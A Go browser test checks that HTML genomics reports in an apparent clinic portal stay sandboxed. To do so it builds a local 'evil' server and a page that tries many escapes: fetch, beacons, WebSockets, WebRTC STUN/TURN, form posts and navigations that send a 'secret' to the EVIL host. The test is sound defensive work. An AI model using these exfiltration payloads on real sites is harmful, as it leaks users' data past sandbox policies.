package attacks

import (
	"bytes"
	"context"
	"fmt"
	"image/png"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// evil is a server that no report may reach, by TCP or UDP.
type evil struct {
	web       *httptest.Server
	tcp, udp  atomic.Int64
	host, stn string
}

func newEvil(t *testing.T, page string) *evil {
	t.Helper()
	e := &evil{}
	e.web = httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Access-Control-Allow-Origin", "*")
		if r.URL.Path == "/control" {
			fmt.Fprint(rw, page)
			return
		}
		e.tcp.Add(1)
	}))
	e.web.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			e.tcp.Add(1)
		}
	}
	e.web.Start()
	t.Cleanup(e.web.Close)
	e.host = strings.TrimPrefix(e.web.URL, "http://")
	stun, err := (&net.ListenConfig{}).ListenPacket(t.Context(), "udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = stun.Close() })
	e.stn = stun.LocalAddr().String()
	go func() {
		buffer := make([]byte, 2048)
		for {
			if _, _, err := stun.ReadFrom(buffer); err != nil {
				return
			}
			e.udp.Add(1)
		}
	}()
	return e
}

// escape is a document that tries every way out, and turns green when it has tried them.
const escape = `<!doctype html><html><head><title>Escape</title>
<link rel="preconnect" href="http://EVIL/preconnect"><link rel="dns-prefetch" href="http://EVIL"><link rel="prefetch" href="http://EVIL/prefetch">
<link rel="stylesheet" href="http://EVIL/css"><link rel="icon" href="http://EVIL/icon"><meta http-equiv="refresh" content="1;url=http://EVIL/refresh">
</head><body><img src="http://EVIL/img"><iframe src="http://EVIL/frame"></iframe><object data="http://EVIL/object"></object>
<video src="http://EVIL/video"></video><form id="f" action="http://EVIL/form" method="post"><input name="d" value="secret"></form><a id="a" href="http://EVIL/link" target="_top" ping="http://EVIL/ping">x</a>
<script>
const tries = [
  () => fetch("http://EVIL/fetch", {mode: "no-cors"}), () => fetch("PORTAL/dashboard", {credentials: "include"}), () => navigator.sendBeacon("http://EVIL/beacon", "x"),
  () => { new Image().src = "http://EVIL/image" }, () => { const x = new XMLHttpRequest(); x.open("GET", "http://EVIL/xhr"); x.send() }, () => new WebSocket("ws://EVIL/ws"),
  () => new EventSource("http://EVIL/sse"), () => import("http://EVIL/module.js"), () => new Worker("http://EVIL/worker.js"), () => open("http://EVIL/popup"),
  LEAVING
  () => { parent.document.title = "owned" }, () => { top.document.body.innerHTML = "owned" }, () => parent.postMessage({type: "owned", next: "http://EVIL/message"}, "*"), () => parent.postMessage("http://EVIL/", "*"),
  () => { document.cookie = "owned=1" }, () => localStorage.setItem("owned", "1"), () => navigator.serviceWorker.register("/sw.js"), () => { const s = document.createElement("script"); s.src = "http://EVIL/script.js"; document.head.append(s) },
  () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://EVIL/later"; document.head.append(l) },
  async () => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:STUN"}, {urls: "turn:EVIL?transport=tcp", username: "u", credential: "c"}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()) },
];
for (const attempt of tries) { try { Promise.resolve(attempt()).catch(() => {}) } catch {} }
setTimeout(() => { document.documentElement.style.background = document.body.style.background = "rgb(1, 200, 3)"; document.body.textContent = "" }, 2500);
LAST
</script></body></html>`

// leaving are the ways out after which the page itself would be gone.
const leaving = `() => document.getElementById("f").submit(), () => document.getElementById("a").click(), () => { top.location = "http://EVIL/top" },
  () => { parent.location.href = "http://EVIL/parent" }, () => { alert("owned") }, () => print(),`

// inner opens a frame of its own, where WebRTC is as it was made. Chromium 156 ends
// such a frame's process under the allow-list, so that it has a document for itself.
const inner = `const f = document.createElement("iframe"); f.srcdoc = "<script>new RTCPeerConnection({iceServers:[{urls:'stun:STUN'}]}).createDataChannel('x')<\/script><img src='http://EVIL/srcdoc'>"; document.body.append(f)`

// page is the document that tries to reach e, also by the ways of leave, and last
// of all does as last says.
func (e *evil) page(w *clinic, leave, last string) string {
	text := strings.NewReplacer("LEAVING", leave, "LAST", last).Replace(escape)
	return strings.NewReplacer("EVIL", e.host, "STUN", e.stn, "PORTAL", w.origin).Replace(text)
}

// Defence: reports are sandboxed with a policy of their own and Connection-Allowlist,
// the viewer's page has frame-src 'self', and without scripts: true nothing runs.
func TestAttack41_HTMLReportEscapes(t *testing.T) {
	w := newClinic(t)
	a, _ := w.seed()
	ada := w.as("clinician")
	e, trap := newEvil(t, ""), newEvil(t, "")
	for name, last := range map[string]string{"calm": "", "inner": inner, "leaving": `setTimeout(() => { location = "http://EVIL/leave?d=secret" }, 1500)`, "frames": `setTimeout(() => { location.replace("http://EVIL/replace") }, 1500)`} {
		w.report("live/"+a.number+"/"+name+".html", e.page(w, leaving, last), nil)
		w.report("reports/"+a.number+"/"+name+".html", e.page(w, leaving, last), nil)
	}
	w.run("sync-reports")
	// The traps work: the same page without any defence is heard.
	served := newEvil(t, strings.ReplaceAll(trap.page(w, "", ""), "http-equiv", "name"))
	loopback := chromedp.Flag("allow-loopback-in-peer-connection", true)
	newTab(t, served.web.URL, loopback).do("open the page unprotected", chromedp.Navigate(served.web.URL+"/control"))
	defer func() { t.Logf("the traps caught %d connections and %d packets", trap.tcp.Load(), trap.udp.Load()) }()
	w.eventually("a connection and a packet in the traps", func() bool { return trap.tcp.Load() > 3 && trap.udp.Load() > 0 })

	b := newTab(t, w.origin, loopback)
	b.adopt(ada.caller)
	for _, root := range []string{"live", "plain"} {
		for _, name := range []string{"calm", "inner", "leaving", "frames"} {
			id := one[string](w, "SELECT report_id FROM analytics.genomics_reports WHERE root = $1 AND report_path = $2", root, a.number+"/"+name+".html")
			b.open("/genomics/reports/" + id)
			b.until("the frame has its document", `(() => { const e = performance.getEntriesByName(document.querySelector("iframe").src)[0]; return !!e && e.responseStatus === 200 && e.decodedBodySize > 1000 })()`)
			if root == "live" && name == "calm" {
				w.eventually("the script's end", func() bool { return b.green() })
			} else {
				b.eval("new Promise(done => setTimeout(done, 4000))")
			}
			if root == "plain" && b.green() {
				t.Errorf("a script of a root without scripts ran")
			}
			if got := b.eval("document.title + location.href + document.cookie + Object.keys(localStorage)"); strings.Contains(got, "owned") || !strings.Contains(got, w.origin+"/genomics/reports/"+id) {
				t.Errorf("%s of %s changed the page: %s", name, root, got)
			}
			if tcp, udp := e.tcp.Load(), e.udp.Load(); tcp+udp > 0 {
				t.Fatalf("%s of %s got out: %d connections, %d packets", name, root, tcp, udp)
			}
		}
	}
	var tabs []*target.Info
	b.do("count the windows", chromedp.ActionFunc(func(ctx context.Context) (err error) { tabs, err = target.GetTargets().Do(ctx); return err }))
	windows := 0
	for _, info := range tabs {
		if info.Type == "page" {
			windows++
		}
	}
	if windows != 1 {
		t.Errorf("%d windows are open, want 1", windows)
	}
	w.frames(a)
	// By itself, outside the viewer's frame, a report is only ever a download.
	for _, dest := range []string{"", "document", "embed", "object", "script", "empty"} {
		got := ada.get("/genomics/reports/"+a.html+"/file", set("Sec-Fetch-Dest", dest)).want(http.StatusOK)
		policy := got.header.Get("Content-Security-Policy")
		if !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment") || !strings.HasPrefix(policy, "sandbox;") || strings.Contains(policy, "script") {
			t.Errorf("for %q: %s, %s", dest, got.header.Get("Content-Disposition"), policy)
		}
	}
}

// frames looks at each layer by itself: where one holds, the browser shows nothing
// of another that is gone.
func (w *clinic) frames(a *patient) {
	w.t.Helper()
	ada := w.as("clinician")
	chromium := set("Sec-CH-UA", `"Chromium";v="156", "Not)A;Brand";v="24"`)
	for root, sandbox := range map[string]string{"live": "sandbox allow-scripts;", "plain": "sandbox;"} {
		id := one[string](w, "SELECT report_id FROM analytics.genomics_reports WHERE root = $1 AND report_path = $2", root, a.number+"/calm.html")
		got := ada.get("/genomics/reports/"+id+"/file", set("Sec-Fetch-Dest", "iframe"), chromium).want(http.StatusOK)
		policy := got.header.Get("Content-Security-Policy")
		for _, part := range []string{sandbox, "default-src 'none';", "connect-src 'none';", "form-action 'none';", "base-uri 'none';", "frame-ancestors 'self'"} {
			if !strings.Contains(policy, part) {
				w.t.Errorf("the policy of a report in %s lacks %q: %s", root, part, policy)
			}
		}
		if strings.Contains(policy, "http") || strings.Contains(policy, "allow-same-origin") || strings.Contains(policy, "allow-top-navigation") || root == "plain" && strings.Contains(policy, "script") {
			w.t.Errorf("the policy of a report in %s is too wide: %s", root, policy)
		}
		if list := got.header.Get("Connection-Allowlist"); list != "(response-origin)" {
			w.t.Errorf("the allow-list of a report in %s is %q", root, list)
		}
		viewer := ada.get("/genomics/reports/"+id, chromium).want(http.StatusOK).has(`sandbox="` + map[string]string{"live": "allow-scripts", "plain": ""}[root] + `"`)
		if policy := viewer.header.Get("Content-Security-Policy"); !strings.Contains(policy, "frame-src 'self';") {
			w.t.Errorf("the viewer's policy lets its frame leave: %s", policy)
		}
	}
	// Without proof that the browser holds to the allow-list, nothing runs.
	id := one[string](w, "SELECT report_id FROM analytics.genomics_reports WHERE root = 'live' AND report_path = $1", a.number+"/calm.html")
	for _, brands := range []string{"", `"Chromium";v="155"`, `"Firefox";v="200"`, `"Chromium";v="x156"`} {
		got := ada.get("/genomics/reports/"+id+"/file", set("Sec-Fetch-Dest", "iframe"), set("Sec-CH-UA", brands)).want(http.StatusOK)
		if policy := got.header.Get("Content-Security-Policy"); !strings.HasPrefix(policy, "sandbox;") {
			w.t.Errorf("scripts run in %q: %s", brands, policy)
		}
	}
}

// green reports whether the frame shows the colour of a script that ran to its end.
func (b *tab) green() bool {
	b.t.Helper()
	var shot []byte
	b.do("picture of the frame", chromedp.Screenshot("iframe", &shot, chromedp.ByQuery))
	img, err := png.Decode(bytes.NewReader(shot))
	if err != nil {
		b.t.Fatal(err)
	}
	n := 0
	for y := img.Bounds().Min.Y; y < img.Bounds().Max.Y; y += 4 {
		for x := img.Bounds().Min.X; x < img.Bounds().Max.X; x += 4 {
			if r, g, blue, _ := img.At(x, y).RGBA(); r>>8 == 1 && g>>8 == 200 && blue>>8 == 3 {
				n++
			}
		}
	}
	return n > 100
}
